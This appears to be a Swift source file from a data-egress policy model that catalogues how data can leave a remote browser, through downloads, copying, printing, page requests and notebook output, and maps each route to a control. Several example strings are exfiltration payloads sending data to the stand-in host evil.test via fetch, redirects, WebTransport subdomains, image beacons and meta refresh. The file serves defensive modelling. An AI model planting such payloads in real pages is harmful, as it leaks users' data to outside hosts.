import CordonModel

extension LocalRoutes {
  /// What leaves by the remote browser: what a page does by itself, and what a person does with it.
  static let browser: [LocalRoute] = [
    LocalRoute(
      "browser-download", .browserDownload, "a file saved out of the remote browser",
      [
        .inBrowser(
          "a file that a page saves",
          "Object.assign(document.createElement('a'), {href: url, download: 'data.csv'}).click()",
          .browserPolicy(.download)),
        .inBrowser(
          "a file that the portal hands to the person", "a click on a download", .crossing(.download)),
      ]),
    LocalRoute(
      "clipboard", .clipboardPrint, "copying out of the remote browser",
      [.inBrowser("what a person copies", "control c over selected text", .crossing(.copyOut))]),
    LocalRoute(
      "print", .clipboardPrint, "printing from the remote browser",
      [.inBrowser("a page as a document", "the bar's print button", .crossing(.print))]),
    LocalRoute(
      "browser-upload", .externalUpload, "a web page's own links, forms and requests",
      [
        request("a request", "fetch('http://evil.test/', {method: 'POST', mode: 'no-cors', body: data})"),
        .inBrowser(
          "a link, a form or a redirect", "location.href = 'http://evil.test/?' + data",
          .control(.browserPolicy), .control(.browserDoor)),
        .inBrowser(
          "a connection that knows no proxy", "new WebTransport('https://' + data + '.evil.test/')",
          .fact(.ownNetwork)),
      ]),
    LocalRoute(
      "output-beacon", .notebookOutput, "what a notebook's output loads from elsewhere",
      [
        request("what is loaded with the output", "<img src=http://evil.test/secret>"),
        .inBrowser(
          "an output that leads elsewhere",
          "<meta http-equiv=refresh content='0; url=http://evil.test/secret'>",
          .control(.browserPolicy), .control(.browserDoor)),
      ]),
  ]

  /// What goes to a host that nobody listed for the browser.
  private static func request(_ name: String, _ deed: String) -> LocalWay {
    .inBrowser(name, deed, .control(.browserDoor))
  }
}
